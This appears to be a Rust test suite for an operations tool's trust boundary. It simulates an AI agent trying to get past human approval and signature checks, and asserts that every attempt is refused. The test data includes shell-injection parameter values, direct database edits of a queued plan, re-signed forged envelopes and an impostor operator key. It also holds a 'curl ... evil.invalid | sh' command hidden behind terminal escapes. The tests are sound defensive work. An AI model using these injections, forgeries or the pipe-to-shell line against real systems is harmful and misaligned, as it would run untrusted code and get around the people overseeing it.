//! The trust boundary (DESIGN §3a), attacked as an agent would: with its
//! own key, the CLI, a text editor on the workspace and `sqlite3` on the
//! database. Each attack must be refused with a named check and leave no
//! side effect (a marker file the injected command would create must not
//! exist).

#![allow(missing_docs, clippy::unwrap_used, clippy::expect_used)]

mod common;
use common::*;

#[test]
fn an_injected_param_is_data_not_code() {
    let lab = Lab::new();
    let marker = lab.tmp.path().join("pwned");
    let m = marker.to_str().unwrap();
    for value in [
        format!("path=.; touch {m}"),
        format!("path=$(touch {m})"),
        format!("path=`touch {m}`"),
        format!("path=.\" ; touch {m}; \""),
    ] {
        let s = submit(&lab, "claude", "disk-usage", "web-1", &[&value]);
        assert_eq!(s["decision"], "auto", "{s}");
        lab.work();
        let op = show(&lab, &jti(&s));
        assert_eq!(op["state"], "succeeded", "{op}");
        assert!(!marker.exists(), "{value} ran a command");
    }
    // A path that would read as an option is refused before planning,
    // naming the param and the rule.
    let o = lab.run(&[
        "submit",
        "disk-usage",
        "--as",
        "claude",
        "--target",
        "web-1",
        "--param",
        "path=-rf",
    ]);
    assert!(!o.status.success());
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("parameter `path`") && err.contains("starts with `-`"),
        "{err}"
    );
}

#[test]
fn a_runbook_that_writes_raw_never_runs_without_a_human() {
    let marker_dir = tempfile::tempdir().unwrap();
    let lab = Lab::new_with(|lab| {
        lab.write(
            "runbooks/echo-raw.toml",
            "id = \"echo-raw\"\nread_only = true\n\n[params.m]\ntype = \"string\"\n\n[[steps]]\nid = \"say\"\ncmd = \"echo {{ params.m | raw }}\"\n",
        );
    });
    let m = marker_dir.path().join("pwned");
    let s = submit(
        &lab,
        "claude",
        "echo-raw",
        "web-1",
        &[&format!("m=hi; touch {}", m.display())],
    );
    assert_eq!(s["decision"], "pending_approval", "{s}");
    lab.work();
    assert!(!m.exists());
    let why = lab.ok(&["policy", "explain", &jti(&s)]);
    assert!(why.contains("unquoted"), "{why}");
    // runbook validate and policy lint name the place.
    let o = lab.run(&["runbook", "validate", "echo-raw"]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("runbooks/echo-raw.toml:9:") && err.contains("never runs without a human"),
        "{err}"
    );
    let lint = lab.json(&["policy", "lint", "--json"]);
    assert!(
        lint["warnings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|w| w.as_str().unwrap().contains("runbooks/echo-raw.toml:9:")),
        "{lint}"
    );
}

#[test]
fn an_interpolation_inside_shell_quotes_is_refused_with_its_place() {
    let lab = Lab::new();
    lab.write(
        "runbooks/quoted.toml",
        "id = \"quoted\"\n\n[params.m]\ntype = \"string\"\n\n[[steps]]\nid = \"say\"\ncmd = \"echo \\\"{{ params.m }}\\\"\"\n",
    );
    let o = lab.run(&["runbook", "validate", "quoted"]);
    assert!(!o.status.success());
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("runbooks/quoted.toml:7:") && err.contains("inside shell quotes"),
        "{err}"
    );
}

#[test]
fn an_edited_plan_row_never_runs() {
    let lab = Lab::new();
    let marker = lab.tmp.path().join("pwned");
    let s = submit(&lab, "claude", "disk-usage", "web-1", &[]);
    assert_eq!(s["decision"], "auto");
    let j = jti(&s);
    // sqlite3 on the database: the queued op's command becomes another.
    let db = rusqlite::Connection::open(lab.path(".bosun/bosun.db")).unwrap();
    let plan: String = db
        .query_row("SELECT plan FROM ops WHERE jti = ?1", [&j], |r| r.get(0))
        .unwrap();
    let mut p: serde_json::Value = serde_json::from_str(&plan).unwrap();
    p["steps"][0]["cmd"] = format!("touch {}", marker.display()).into();
    db.execute(
        "UPDATE ops SET plan = ?1 WHERE jti = ?2",
        [&p.to_string(), &j],
    )
    .unwrap();
    drop(db);
    lab.work();
    let op = show(&lab, &j);
    assert_eq!(op["state"], "failed", "{op}");
    let detail = op["detail"].as_str().unwrap_or_default().to_string();
    assert!(detail.contains("plan_digest"), "{op}");
    assert!(!marker.exists(), "the edited command ran");
    assert!(op["steps"].as_array().unwrap().is_empty(), "{op}");
    // The refusal is in the ledger.
    let db = rusqlite::Connection::open(lab.path(".bosun/bosun.db")).unwrap();
    let mut st = db
        .prepare("SELECT entry FROM ledger WHERE jti = ?1")
        .unwrap();
    let entries: Vec<String> = st
        .query_map([&j], |r| r.get::<_, Vec<u8>>(0))
        .unwrap()
        .map(|e| String::from_utf8(e.unwrap()).unwrap())
        .collect();
    assert!(
        entries
            .iter()
            .any(|e| e.contains("op.finished") && e.contains("plan_digest")),
        "{entries:?}"
    );
}

#[test]
fn a_host_moved_after_approval_runs_nothing() {
    let lab = Lab::new();
    let marker = lab.tmp.path().join("woken");
    let s = submit(&lab, "claude", "pkg-upgrade", "web-1", &["version=1.2"]);
    let j = jti(&s);
    lab.ok(&["approve", "--yes", &j, "--as", "alice"]);
    // After the approval, web-1 moves elsewhere and gets a wake command
    // (one that runs on the control host); the edit counts only once
    // adopted, and even then the approved plan does not follow it.
    let hosts = std::fs::read_to_string(lab.path("fleet/hosts.toml")).unwrap();
    lab.write(
        "fleet/hosts.toml",
        &hosts.replace(
            "root = \".bosun/sim/web-1\"",
            &format!(
                "root = \".bosun/sim/elsewhere\"\nwake = \"touch {}\"",
                marker.display()
            ),
        ),
    );
    lab.adopt();
    lab.work();
    let op = show(&lab, &j);
    assert_eq!(op["state"], "failed", "{op}");
    let detail = op["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains("inventory") && detail.contains("root") && detail.contains("wake"),
        "{op}"
    );
    assert!(!marker.exists(), "the wake command ran");
    assert!(!lab.path(".bosun/sim/elsewhere").exists());
    assert!(!lab.path(".bosun/sim/web-1/pkgs").exists());
}

/// The agent's own envelope, re-signed with its own key after `edit`.
fn forged(lab: &Lab, edit: impl FnOnce(&mut serde_json::Value)) -> std::path::PathBuf {
    let s = submit(lab, "claude", "disk-usage", "web-2", &[]);
    let env = lab.ok(&["ops", "show", &jti(&s), "--envelope"]);
    let u = bosun_sign::decode(env.trim()).unwrap();
    let mut claims: serde_json::Value = serde_json::from_slice(u.payload()).unwrap();
    // A fresh jti (same layout, other random bits) so replay is not what
    // refuses it.
    let old = claims["jti"].as_str().unwrap().to_string();
    claims["jti"] = format!("{}{}", &old[..old.len() - 4], "beef").into();
    claims["seq"] = (claims["seq"].as_u64().unwrap() + 1).into();
    edit(&mut claims);
    let key = bosun_sign::find_private_key(&lab.keys, "claude").unwrap();
    let kid = u.kid().unwrap().to_string();
    let typ = u.header().typ.clone().unwrap();
    let token = bosun_sign::sign_compact(&key, &kid, &typ, &claims).unwrap();
    let f = lab.tmp.path().join("forged.jws");
    std::fs::write(&f, token).unwrap();
    f
}

#[test]
fn out_of_bounds_envelopes_are_refused() {
    let lab = Lab::new();
    let now = jiff::Timestamp::now().as_second();
    type Edit = Box<dyn Fn(&mut serde_json::Value)>;
    let cases: [(&str, Edit); 4] = [
        (
            "lifetime",
            Box::new(move |c| c["exp"] = (now + 10 * 365 * 86_400).into()),
        ),
        ("iat", Box::new(|c| c["iat"] = (-1).into())),
        // Within the lifetime, but before the workspace existed.
        (
            "iat",
            Box::new(move |c| {
                c["iat"] = (now - 1800).into();
                c["exp"] = (now + 60).into();
            }),
        ),
        ("seq", Box::new(|c| c["seq"] = (1u64 << 63).into())),
    ];
    for (check, edit) in cases {
        let before = lab
            .json(&["ops", "list", "--json"])
            .as_array()
            .unwrap()
            .len();
        let f = forged(&lab, edit);
        let r = lab.refused(&["submit", "--envelope", f.to_str().unwrap(), "--json"]);
        assert_eq!(r["check"], check, "{r}");
        let after = lab
            .json(&["ops", "list", "--json"])
            .as_array()
            .unwrap()
            .len();
        assert_eq!(after, before + 1, "only the honest op was stored");
    }
    // The identity can still submit afterwards (seq was not poisoned).
    let s = submit(&lab, "claude", "disk-usage", "web-1", &[]);
    assert_eq!(s["decision"], "auto");
}

#[test]
fn lapsed_approvals_are_asked_for_again() {
    let lab = Lab::new_with(|lab| {
        let k = std::fs::read_to_string(lab.path("policy/keeper.toml")).unwrap();
        let k = k.replace("approval_validity = \"24h\"", "approval_validity = \"2s\"");
        assert!(k.contains("\"2s\""));
        lab.write("policy/keeper.toml", &k);
    });
    let s = submit(&lab, "claude", "pkg-upgrade", "web-1", &["version=1.2"]);
    let j = jti(&s);
    lab.ok(&["approve", "--yes", &j, "--as", "alice"]);
    std::thread::sleep(std::time::Duration::from_millis(3100));
    lab.work();
    let op = show(&lab, &j);
    assert_eq!(op["state"], "pending_approval", "{op}");
    assert!(
        op["detail"].as_str().unwrap().contains("approvals_lapsed"),
        "{op}"
    );
    assert!(!lab.path(".bosun/sim/web-1/pkgs").exists());
    // A fresh approval lets it run.
    lab.ok(&["approve", "--yes", &j, "--as", "bob"]);
    lab.work();
    assert_eq!(lab.state(&j), "succeeded");
}

/// The agent's own key dir, with a fresh random key saved under an
/// operator's name.
fn impostor_keys(lab: &Lab) -> std::path::PathBuf {
    let dir = lab.tmp.path().join("agent-keys");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::copy(lab.keys.join("claude.jwk"), dir.join("claude.jwk")).unwrap();
    let fake = bosun_sign::SecretKey::generate().unwrap();
    bosun_sign::write_private_key(&dir, "alice", &fake).unwrap();
    dir
}

fn run_with_keys(lab: &Lab, keys: &std::path::Path, args: &[&str]) -> std::process::Output {
    lab.cmd(args).env("BOSUN_KEY_DIR", keys).output().unwrap()
}

#[test]
fn operator_verbs_need_the_operators_signature() {
    let lab = Lab::new();
    let filed = lab.json(&[
        "blockers",
        "file",
        "regression",
        "web-1",
        "--reason",
        "test",
        "--as",
        "alice",
        "--json",
    ]);
    let id = filed["id"].as_u64().unwrap().to_string();
    let s = submit(&lab, "claude", "pkg-upgrade", "web-1", &["version=1.2"]);
    let w0 = lab.json(&["rollout", "start", "pkg-upgrade", "--as", "alice", "--json"]);
    let _ = w0;
    lab.ok(&["halt", "--why", "maintenance", "--as", "alice"]);
    let before = lab.json(&["status", "--json"]);
    let blockers_before = lab.json(&["blockers", "list", "--json"]);
    let fake = impostor_keys(&lab);
    let empty = lab.tmp.path().join("no-keys");
    std::fs::create_dir_all(&empty).unwrap();
    let verbs: Vec<Vec<&str>> = vec![
        vec![
            "blockers", "resolve", &id, "--how", "fixed", "--as", "alice",
        ],
        vec!["blockers", "snooze", &id, "--for", "1d", "--as", "alice"],
        vec!["snooze", &id, "--for", "1d", "--as", "alice"],
        vec![
            "snooze",
            s["jti"].as_str().unwrap(),
            "--for",
            "1d",
            "--as",
            "alice",
        ],
        vec![
            "rollout",
            "abort",
            "pkg-upgrade",
            "--why",
            "x",
            "--as",
            "alice",
        ],
        vec!["resume", "--as", "alice"],
        vec!["halt", "--why", "forged", "--as", "alice"],
        vec!["rollout", "promote", "pkg-upgrade", "--as", "alice"],
    ];
    for v in &verbs {
        for keys in [&fake, &empty] {
            let o = run_with_keys(&lab, keys, v);
            assert!(
                !o.status.success(),
                "{v:?} with {} succeeded: {}",
                keys.display(),
                String::from_utf8_lossy(&o.stdout)
            );
        }
    }
    // Nothing changed: still halted by alice, the blocker unresolved and
    // not snoozed, the rollout active.
    let after = lab.json(&["status", "--json"]);
    assert_eq!(after["halt"], before["halt"], "{after}");
    assert_eq!(lab.json(&["blockers", "list", "--json"]), blockers_before);
    let r = lab.json(&["rollout", "status", "pkg-upgrade", "--json"]);
    assert_eq!(r["phase"], "active", "{r}");
    // With its own key the agent is known, and may stop work but never
    // let it continue.
    let o = lab.run(&["resume", "--as", "claude"]);
    assert_eq!(
        o.status.code(),
        Some(3),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(String::from_utf8_lossy(&o.stderr).contains("role"));
    let o = lab.run(&["blockers", "resolve", &id, "--how", "x", "--as", "claude"]);
    assert_eq!(o.status.code(), Some(3));
    let h = lab.json(&[
        "halt",
        "--why",
        "agent saw smoke",
        "--as",
        "claude",
        "--json",
    ]);
    assert_eq!(h["by"], "claude");
    // The ledger records the verified signer of each statement.
    let db = rusqlite::Connection::open(lab.path(".bosun/bosun.db")).unwrap();
    let halted_by: Vec<String> = db
        .prepare("SELECT entry FROM ledger")
        .unwrap()
        .query_map([], |r| r.get::<_, Vec<u8>>(0))
        .unwrap()
        .map(|e| String::from_utf8(e.unwrap()).unwrap())
        .filter(|e| e.contains("fleet.halted"))
        // Through a daemon (BOSUN_TEST_MODE=remote) the lab halts too.
        .filter(|e| !e.contains("the lab works on cue"))
        .collect();
    assert_eq!(halted_by.len(), 2, "{halted_by:?}");
    assert!(halted_by[1].contains("\"by\":\"claude\""), "{halted_by:?}");
    // An operator resumes; the refusals are on record with their checks.
    lab.ok(&["resume", "--as", "bob"]);
    let rej = lab.json(&["ops", "rejections", "--json"]).to_string();
    assert!(
        rej.contains("\"check\":\"signature\"") && rej.contains("\"check\":\"role\""),
        "{rej}"
    );
}

const PROBE: &str = "id = \"probe\"\nread_only = false\n\n[[steps]]\nid = \"change\"\ncmd = \"touch changed\"\ncheck = \"echo would change\"\n";

#[test]
fn checks_are_ops_of_adopted_runbooks() {
    let lab = Lab::new_with(|lab| {
        lab.write("runbooks/probe.toml", PROBE);
        let hosts = std::fs::read_to_string(lab.path("fleet/hosts.toml")).unwrap();
        lab.write(
            "fleet/hosts.toml",
            &format!("{hosts}\n[[host]]\nname = \"nas\"\ntransport = \"local\"\nroot = \".bosun/sim/nas\"\ninfra = true\n"),
        );
    });
    let marker = lab.tmp.path().join("pwned");
    let check = |rb: &str, host: &str| {
        lab.run(&[
            "plan", rb, "--target", host, "--check", "--as", "claude", "--json",
        ])
    };
    // The adopted runbook's checks run as a read-only op of the agent.
    let o = check("probe", "web-1");
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let c: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(c["state"], "succeeded", "{c}");
    assert!(
        c["checks"][0]["output"]
            .as_str()
            .unwrap()
            .contains("would change")
    );
    assert!(
        !lab.path(".bosun/sim/web-1/changed").exists(),
        "only the check ran"
    );
    let op = show(&lab, c["jti"].as_str().unwrap());
    assert_eq!(
        (op["iss"].as_str(), op["decision"].as_str()),
        (Some("claude"), Some("auto")),
        "{op}"
    );
    // An edited check command changes nothing until adopted.
    lab.write(
        "runbooks/probe.toml",
        &PROBE.replace("echo would change", &format!("touch {}", marker.display())),
    );
    let o = check("probe", "web-1");
    assert!(o.status.success());
    assert!(!marker.exists(), "the edited check ran");
    // A runbook nobody adopted has no checks to run.
    lab.write(
        "runbooks/fresh.toml",
        &PROBE
            .replace("\"probe\"", "\"fresh\"")
            .replace("echo would change", &format!("touch {}", marker.display())),
    );
    let o = check("fresh", "web-1");
    assert_eq!(
        o.status.code(),
        Some(3),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );
    let r: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(r["check"], "runbook", "{r}");
    // An infra host that did not opt in is not checked either.
    let o = check("probe", "nas");
    let r: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(r["check"], "scope", "{r}");
    assert!(!marker.exists());
    assert!(!lab.path(".bosun/sim/nas").exists());
    // And without an identity nothing is checked.
    let o = lab.run(&["plan", "probe", "--target", "web-1", "--check"]);
    assert!(!o.status.success());
    assert!(String::from_utf8_lossy(&o.stderr).contains("--as"));
}

#[test]
fn what_an_approver_reads_cannot_be_rewritten_by_terminal_escapes() {
    let lab = Lab::new();
    // A runbook nobody adopted (so its op waits for a human) whose command
    // tries to hide itself behind a carriage return and an erase-line.
    lab.write(
        "runbooks/diskinfo.toml",
        "id = \"diskinfo\"\nread_only = true\n\n[[steps]]\nid = \"df\"\ncmd = \"curl -s https://evil.invalid/x | sh #\\r\\u001b[2K df -h /\"\n",
    );
    let s = submit(&lab, "claude", "diskinfo", "web-1", &[]);
    assert_eq!(s["decision"], "pending_approval", "{s}");
    let o = lab.run(&["approve", &jti(&s), "--as", "alice"]);
    assert!(!o.status.success(), "no terminal, no --yes: nothing signed");
    let out = format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(!out.contains('\u{1b}') && !out.contains('\r'), "{out:?}");
    assert!(
        out.contains("curl -s https://evil.invalid/x | sh #\\u{d}\\u{1b}[2K df -h /"),
        "{out}"
    );
}

#[test]
fn an_auto_op_that_expired_before_it_started_never_runs() {
    let lab = Lab::new();
    lab.work();
    let now = jiff::Timestamp::now().as_second();
    let f = forged(&lab, move |c| c["exp"] = (now + 2).into());
    let s = lab.json(&["submit", "--envelope", f.to_str().unwrap(), "--json"]);
    assert_eq!(s["decision"], "auto", "{s}");
    std::thread::sleep(std::time::Duration::from_millis(3100));
    lab.work();
    let op = show(&lab, &jti(&s));
    assert_eq!(op["state"], "failed", "{op}");
    assert!(op["detail"].as_str().unwrap().contains("expired"), "{op}");
    assert!(op["steps"].as_array().unwrap().is_empty(), "{op}");
}

/// `keys/keys.toml` without `name`'s entry, adopted (alice proposes, bob
/// approves): the operators revoke a key.
fn revoke(lab: &Lab, name: &str) {
    let path = lab.path("keys/keys.toml");
    let text = std::fs::read_to_string(&path).unwrap();
    let kept: Vec<&str> = text
        .split("[[key]]")
        .filter(|k| !k.contains(&format!("name = \"{name}\"")))
        .collect();
    std::fs::write(&path, kept.join("[[key]]")).unwrap();
    lab.adopt();
    let reg = lab.json(&["key", "list", "--json"]).to_string();
    assert!(!reg.contains(&format!("\"{name}\"")), "{reg}");
}

/// A key the operators revoke stops what it already set in motion: an op
/// it signed that was approved and queued never runs, and an approval it
/// gave no longer counts (the op waits for a fresh one).
#[test]
fn a_revoked_key_stops_what_it_queued_and_its_approvals_stop_counting() {
    // The agent's key, revoked after its op was approved and queued.
    let lab = Lab::new();
    let jti = lab.approved_upgrade("web-1", "2.0");
    assert_eq!(lab.state(&jti), "approved");
    revoke(&lab, "claude");
    lab.work();
    let op = show(&lab, &jti);
    assert_eq!(op["state"], "failed", "{op}");
    assert!(op.to_string().contains("unknown_key"), "{op}");
    assert!(
        op["steps"].as_array().is_none_or(|s| s.is_empty()),
        "nothing of it ran: {op}"
    );

    // The approver's key, revoked after she approved: back to waiting.
    let lab = Lab::new();
    let jti = lab.approved_upgrade("web-1", "2.0");
    revoke(&lab, "alice");
    lab.work();
    let op = show(&lab, &jti);
    assert_eq!(op["state"], "pending_approval", "{op}");
    assert!(op.to_string().contains("approvals_lapsed"), "{op}");
    // A fresh approval by an operator still in force: it runs.
    lab.ok(&["approve", "--yes", &jti, "--as", "bob"]);
    lab.work();
    assert_eq!(lab.state(&jti), "succeeded");
}
